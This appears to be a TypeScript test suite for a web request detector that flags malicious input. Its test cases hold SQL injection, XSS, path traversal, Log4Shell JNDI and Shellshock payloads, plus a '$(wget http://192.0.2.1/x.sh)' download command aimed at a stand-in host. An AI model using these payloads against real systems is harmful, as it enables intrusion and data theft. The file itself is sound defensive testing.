import { readFileSync } from 'node:fs'
import { describe, expect, it } from 'vitest'
import { createDetector, defaultDetectorSettings } from './detector.ts'

const { values, agents } = JSON.parse(
  readFileSync(new URL('../../testdata/benign.json', import.meta.url), 'utf8'),
) as { values: string[]; agents: string[] }

const detector = createDetector()
const empty = { userAgent: null, path: '/', query: '' }
const inQuery = (value: string) => detector.judge({ ...empty, query: `q=${encodeURIComponent(value)}` })
const inBody = (value: string) => detector.judge({ ...empty, body: { field: value } })

describe('what is harmless', () => {
  it.each(values)('passes: %s', (value) => {
    expect([inQuery(value).action, inBody(value).action]).toEqual(['allow', 'allow'])
  })

  it.each(agents)('passes: %s', (userAgent) => {
    expect(detector.judge({ ...empty, userAgent })).toMatchObject({ action: 'allow' })
  })
})

describe('attacks', () => {
  it.each([
    ['sqli', `' OR '1'='1' -- `],
    ['sqli', '1 UNION/**/SELECT username, password FROM users'],
    ['sqli', '1; DROP TABLE users'],
    ['sqli', `1' AND (SELECT 1 FROM (SELECT SLEEP(5))x)-- -`],
    ['xss', '<script>alert(1)</script>'],
    ['xss', '<img src=x onerror=alert(1)>'],
    ['xss', '<a href="java&#x09;script:alert(1)">x</a>'],
    ['xss', '\uff1cscript\uff1ealert(1)'],
    ['traversal', '../../../../etc/passwd'],
    ['traversal', 'php://filter/convert.base64-encode/resource=index.php'],
    ['command', 'x; cat /etc/hosts'],
    ['command', `\${jndi:ldap://192.0.2.1/a}`],
    ['command', '$(wget http://192.0.2.1/x.sh)'],
  ] as const)('are seen as %s: %s', (category, value) => {
    expect(inQuery(value).categories).toHaveProperty(category)
    expect(inBody(value).action).not.toBe('allow')
  })

  it('are seen in a path, encoded twice or overlong, and in headers and agents', () => {
    for (const path of [
      '/a/%2e%2e/%2e%2e/etc/passwd',
      '/%252e%252e%252f',
      '/%c0%ae%c0%ae/%c0%ae%c0%ae/x',
      '/.git/config',
    ]) {
      expect([path, detector.judge({ ...empty, path }).action]).not.toContain('allow')
    }
    const headers = { 'x-forwarded-for': `\${jndi:rmi://x}`, referer: 'https://a.example/' }
    expect(detector.judge({ ...empty, headers }).categories).toHaveProperty('command')
    expect(detector.judge({ ...empty, userAgent: '() { :;}; /bin/id' }).categories).toHaveProperty('command')
    expect(detector.judge({ ...empty, userAgent: 'sqlmap/1.8' })).toMatchObject({
      action: 'block',
      categories: { scanner: 85 },
    })
    expect(detector.judge({ ...empty, headers: { 'x-scanner': 'a' } }).categories).toHaveProperty('scanner')
  })

  it('are seen in text bodies: JSON, forms, plain', () => {
    for (const body of ['{"a":"<script>x"}', 'a=%3Cscript%3E&b=c', '<script>', '{ not json <script>']) {
      expect(detector.judge({ ...empty, body }).categories).toHaveProperty('xss')
    }
  })
})

describe('settings', () => {
  it('turn a category off, halve it, and raise the thresholds', () => {
    const withXss = (xss: number) =>
      createDetector({ ...defaultDetectorSettings, weights: { ...defaultDetectorSettings.weights, xss } })
    const request = { ...empty, query: 'q=<script>' }
    const full = detector.judge(request).score
    expect(withXss(0).judge(request)).toMatchObject({ score: 0, action: 'allow' })
    expect(withXss(0.5).judge(request).score).toBe(Math.round(full / 2))
    const strict = createDetector({ ...defaultDetectorSettings, scores: { suspicious: 95, block: 100 } })
    expect(strict.judge(request).action).toBe('allow')
  })

  it('only observe, and advise no block', () => {
    const observing = createDetector({ ...defaultDetectorSettings, mode: 'observe' })
    expect(observing.judge({ ...empty, query: 'q=<script>' }).action).toBe('suspect')
  })
})

it('never looks at secrets', () => {
  const body = { email: 'a@example.org', password: `' or 1=1--` }
  expect(detector.judge({ ...empty, query: 'token=<script>', body })).toMatchObject({ score: 0 })
})

it('finds the crowd itself where a text asks for more work than any request may', () => {
  expect(inBody(`'|`.repeat(200_000)).patterns).toContain('crowded-text')
})
